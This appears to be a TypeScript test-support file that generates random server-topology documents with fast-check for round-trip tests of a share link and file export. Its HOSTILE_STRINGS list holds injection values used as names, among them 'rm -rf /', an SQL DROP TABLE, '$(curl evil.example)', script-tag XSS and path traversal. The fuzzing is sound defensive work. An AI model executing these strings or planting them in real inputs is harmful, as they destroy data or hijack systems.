/**
 * TEST SUPPORT (imported only by tests): fast-check arbitraries of valid format-v1
 * topologies with random counts, enums, optional fields, names in any script, hostile
 * strings and layouts, for round-trip properties of the share link and file export.
 */
import fc from 'fast-check';
import { linkAllowed } from '../model/link-kinds';
import {
  BRANCH_VARIANTS,
  COMMIT_MODES,
  DEPLOYMENT_MODES,
  FAILOVER_MODES,
  FILE_STORAGE,
  HA_MODES,
  HOSTINGS,
  LINK_KINDS,
  NODE_KINDS,
  OOS_ZONES,
  OS_VERSIONS,
  PRODUCT_VERSIONS,
  SIP_LB,
  SITE_KINDS,
  SQL_EDITIONS,
  SQL_VERSIONS,
  STORE_ROLES,
  WEB_LB,
  type Link,
  type LinkKind,
  type NodeKind,
  type Position,
  type Site,
  type Topology,
  type TopologyNode,
} from '../model/schema';

export const HOSTILE_STRINGS = [
  '"; rm -rf / #',
  "'; DROP TABLE pools; --",
  '$(curl evil.example)',
  '`whoami`',
  '<script>alert(1)</script>',
  ']]><script>alert(2)</script><![CDATA[',
  '&amp; &lt; &#x3C; <!-- -->',
  'line one\nline two\r\n\ttab',
  '\u202Eevil\u202C RTL override',
  '\u0000\u0001\u001f\u007f control',
  '🏢 Zürich – 東京 – القاهرة',
  '{{constructor.constructor("x")()}}',
  '%00%2e%2e%2f',
  'x'.repeat(200),
] as const;

const idChars = fc.constantFrom(...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.-'.split(''));
export const arbId = fc.string({ unit: idChars, minLength: 1, maxLength: 12 }).filter((s) => s !== '__proto__');

export const arbName = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
);

const label = fc.stringMatching(/^[a-z0-9](?:[a-z0-9-]{0,10}[a-z0-9])?$/);
export const arbFqdn = fc.array(label, { minLength: 1, maxLength: 4 }).map((ls) => ls.join('.'));

const arbText = fc.oneof(fc.constantFrom('CU8', 'CU22', 'SP2', 'EU', 'NA', ''), fc.string({ maxLength: 20 }));
const optional = <T>(a: fc.Arbitrary<T>): fc.Arbitrary<T | undefined> => fc.option(a, { nil: undefined });
const count = (min: number, max = 1000) => fc.integer({ min, max });
// Count(0) caps at 1,000,000 before the kinds' own larger caps.
const users = fc.oneof(fc.integer({ min: 0, max: 1_000_000 }), fc.integer({ min: 0, max: 200 }).map((n) => n * 500));
const instance = fc.oneof(fc.constant(''), fc.stringMatching(/^[A-Za-z0-9_$#]{1,16}$/));
const port = fc.integer({ min: 1, max: 65535 });

/** Drops keys whose value is undefined, as JSON would. */
function clean<T extends object>(o: T): T {
  return Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined)) as T;
}

function arbNode(kind: NodeKind, id: string, siteIds: readonly string[]): fc.Arbitrary<TopologyNode> {
  const site = fc.constantFrom(...siteIds);
  const base = fc.record({ name: fc.oneof(arbName, fc.constant(id), fc.constant(id.toUpperCase())), siteId: site, fqdn: arbFqdn });
  const pv = fc.constantFrom(...PRODUCT_VERSIONS);
  const bool = fc.boolean();
  switch (kind) {
    case 'frontEndPool':
      return fc
        .record({ b: base, productVersion: pv, frontEndServers: count(1, 16), users, hosting: fc.constantFrom(...HOSTINGS), os: fc.constantFrom(...OS_VERSIONS), cumulativeUpdate: optional(arbText), sipLoadBalancing: fc.constantFrom(...SIP_LB), webLoadBalancing: fc.constantFrom(...WEB_LB), mediationCollocated: bool, conferencing: bool, largeMeetingPool: optional(bool), deployed: optional(bool), domain: optional(arbText) })
        .map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'standardEditionServer':
      return fc
        .record({ b: base, productVersion: pv, users, hosting: fc.constantFrom(...HOSTINGS), os: fc.constantFrom(...OS_VERSIONS), cumulativeUpdate: optional(arbText), mediationCollocated: bool, domain: optional(arbText) })
        .map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'sqlStore': {
      const replica = fc.record({ fqdn: arbFqdn, siteId: site, commitMode: fc.constantFrom(...COMMIT_MODES), failoverMode: fc.constantFrom(...FAILOVER_MODES), readable: bool });
      const ag = fc.record({ listenerFqdn: arbFqdn, listenerPort: optional(fc.oneof(fc.constant(1433), port)), replicas: fc.array(replica, { maxLength: 4 }) }).map(clean);
      return fc
        .record({ b: base, instance, sqlVersion: fc.constantFrom(...SQL_VERSIONS), sqlEdition: fc.constantFrom(...SQL_EDITIONS), sqlUpdateLevel: optional(arbText), haMode: fc.constantFrom(...HA_MODES), ag: optional(ag), sameListener: bool, clusterNodes: optional(count(1, 64)), domain: optional(arbText) })
        .map(({ b, sameListener, ag, ...r }) => clean({ id, kind, ...b, ...r, ag: ag && sameListener ? { ...ag, listenerFqdn: b.fqdn } : ag }));
    }
    case 'edgePool':
      return fc
        .record({ b: base, productVersion: pv, servers: count(1, 12), internalLoadBalancing: fc.constantFrom(...SIP_LB), externalLoadBalancing: fc.constantFrom(...SIP_LB), federation: bool, xmpp: bool, concurrentRemoteUsers: optional(users) })
        .map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'directorPool':
      return fc.record({ b: base, productVersion: pv, servers: count(1, 10), sipLoadBalancing: fc.constantFrom(...SIP_LB), webLoadBalancing: fc.constantFrom(...WEB_LB) }).map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'mediationPool':
      return fc.record({ b: base, productVersion: pv, servers: count(1, 10) }).map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'persistentChatPool':
      return fc
        .record({ b: base, productVersion: pv, servers: fc.array(fc.record({ siteId: site, active: bool }), { maxLength: 8 }), compliance: bool })
        .map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'fileStore':
      return fc.record({ b: base, share: fc.oneof(fc.constant('sfbshare'), fc.string({ minLength: 1, maxLength: 20 })), storage: fc.constantFrom(...FILE_STORAGE) }).map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'officeOnlineServer':
      return fc.record({ b: base, servers: count(1, 10), zone: fc.constantFrom(...OOS_ZONES) }).map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'survivableBranch':
      return fc.record({ b: base, variant: fc.constantFrom(...BRANCH_VARIANTS), users }).map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
  }
}

const arbLinkExtras = fc.record({
  role: fc.constantFrom(...STORE_ROLES),
  mirrorPort: optional(fc.oneof(fc.constant(5022), port)),
  witnessPort: optional(fc.oneof(fc.constant(7022), port)),
  synchronous: optional(fc.boolean()),
  voiceFailover: optional(fc.boolean()),
  voiceFailoverSeconds: optional(fc.oneof(fc.constant(300), fc.integer({ min: 1, max: 86_400 }))),
});
type LinkExtras = typeof arbLinkExtras extends fc.Arbitrary<infer T> ? T : never;

function extrasFor(kind: LinkKind, e: LinkExtras): Record<string, unknown> {
  switch (kind) {
    case 'store':
      return { role: e.role };
    case 'mirror':
      return clean({ port: e.mirrorPort, synchronous: e.synchronous });
    case 'witness':
      return clean({ port: e.witnessPort });
    case 'pairing':
      return clean({ voiceFailover: e.voiceFailover, voiceFailoverSeconds: e.voiceFailoverSeconds });
    default:
      return {};
  }
}

const coordinate = fc.oneof(
  { weight: 4, arbitrary: fc.integer({ min: -1e7, max: 1e7 }) },
  { weight: 2, arbitrary: fc.integer({ min: -100, max: 2000 }).map((n) => n * 8) },
  { weight: 1, arbitrary: fc.double({ min: -1e7, max: 1e7, noNaN: true, noDefaultInfinity: true }) },
);

export interface ArbitraryOptions {
  maxSites?: number;
  maxNodes?: number;
  maxLinks?: number;
}

/** A valid topology (parseTopology accepts it), built in one piece so shrinking stays valid. */
export function arbTopology(o: ArbitraryOptions = {}): fc.Arbitrary<Topology> {
  const maxSites = o.maxSites ?? 4;
  const maxNodes = o.maxNodes ?? 12;
  const maxLinks = o.maxLinks ?? 16;
  return fc
    .record({
      siteCount: fc.integer({ min: 1, max: maxSites }),
      kinds: fc.array(fc.constantFrom(...NODE_KINDS), { maxLength: maxNodes }),
      linkCount: fc.integer({ min: 0, max: maxLinks }),
    })
    .chain(({ siteCount, kinds, linkCount }) =>
      fc.uniqueArray(arbId, { minLength: siteCount + kinds.length + linkCount, maxLength: siteCount + kinds.length + linkCount }).chain((ids) => {
        const siteIds = ids.slice(0, siteCount);
        const nodeIds = ids.slice(siteCount, siteCount + kinds.length);
        const linkIds = ids.slice(siteCount + kinds.length);
        const sites = fc.tuple(
          ...siteIds.map((id) =>
            fc.record({ name: fc.oneof(arbName, fc.constant(id)), kind: fc.constantFrom(...SITE_KINDS), region: optional(arbText), datacenter: optional(arbText) }).map((s) => clean({ id, ...s }) as Site),
          ),
        );
        const nodes = kinds.length ? fc.tuple(...kinds.map((k, i) => arbNode(k, nodeIds[i]!, siteIds))) : fc.constant([] as TopologyNode[]);
        const links = fc.array(fc.tuple(fc.constantFrom(...LINK_KINDS), fc.nat(), fc.nat()), { minLength: linkCount, maxLength: linkCount });
        return fc
          .record({
            name: arbName,
            description: optional(fc.oneof(arbName, fc.lorem({ maxCount: 30 }))),
            mode: fc.constantFrom(...DEPLOYMENT_MODES),
            sites,
            nodes,
            links,
            linkIdsPredicted: fc.boolean(),
            extras: fc.array(arbLinkExtras, { minLength: linkCount, maxLength: linkCount }),
            cmsPick: fc.nat(),
            layoutMode: fc.constantFrom('none', 'empty', 'some', 'all'),
            layoutPick: fc.array(fc.boolean(), { minLength: siteCount + kinds.length, maxLength: siteCount + kinds.length }),
            coords: fc.array(fc.tuple(coordinate, coordinate), { minLength: siteCount + kinds.length, maxLength: siteCount + kinds.length }),
          })
          .map((r): Topology => {
            const nodeList = [...r.nodes] as TopologyNode[];
            const linkList: Link[] = [];
            r.links.forEach(([kind, a, b], i) => {
              if (nodeList.length < 2) return;
              const from = nodeList[a % nodeList.length]!;
              const to = nodeList[b % nodeList.length]!;
              if (from.id === to.id || !linkAllowed(kind, from.kind, to.kind)) return;
              const own = extrasFor(kind, r.extras[i]!);
              const id = r.linkIdsPredicted ? `l${linkList.length + 1}` : linkIds[i]!;
              linkList.push({ id, kind, from: from.id, to: to.id, ...own } as Link);
            });
            if (r.linkIdsPredicted) {
              // `l<n>` ids must not collide with site or node ids.
              const taken = new Set([...siteIds, ...nodeIds]);
              for (const l of linkList) {
                while (taken.has(l.id)) l.id = `${l.id}x`;
                taken.add(l.id);
              }
            }
            const registrars = nodeList.filter((n) => n.kind === 'frontEndPool' || n.kind === 'standardEditionServer');
            const cmsHost = registrars.length && r.cmsPick % 3 !== 0 ? registrars[r.cmsPick % registrars.length]!.id : null;
            const allIds = [...siteIds, ...nodeIds];
            let layout: Record<string, Position> | undefined;
            if (r.layoutMode !== 'none') {
              layout = {};
              if (r.layoutMode !== 'empty')
                allIds.forEach((id, i) => {
                  if (r.layoutMode === 'all' || r.layoutPick[i]) layout![id] = { x: r.coords[i]![0], y: r.coords[i]![1] };
                });
            }
            return clean({
              format: 'sfb-topology' as const,
              version: 1 as const,
              name: r.name,
              description: r.description,
              deployment: { cmsHost, mode: r.mode },
              sites: [...r.sites],
              nodes: nodeList,
              links: linkList,
              layout,
            });
          });
      }),
    );
}
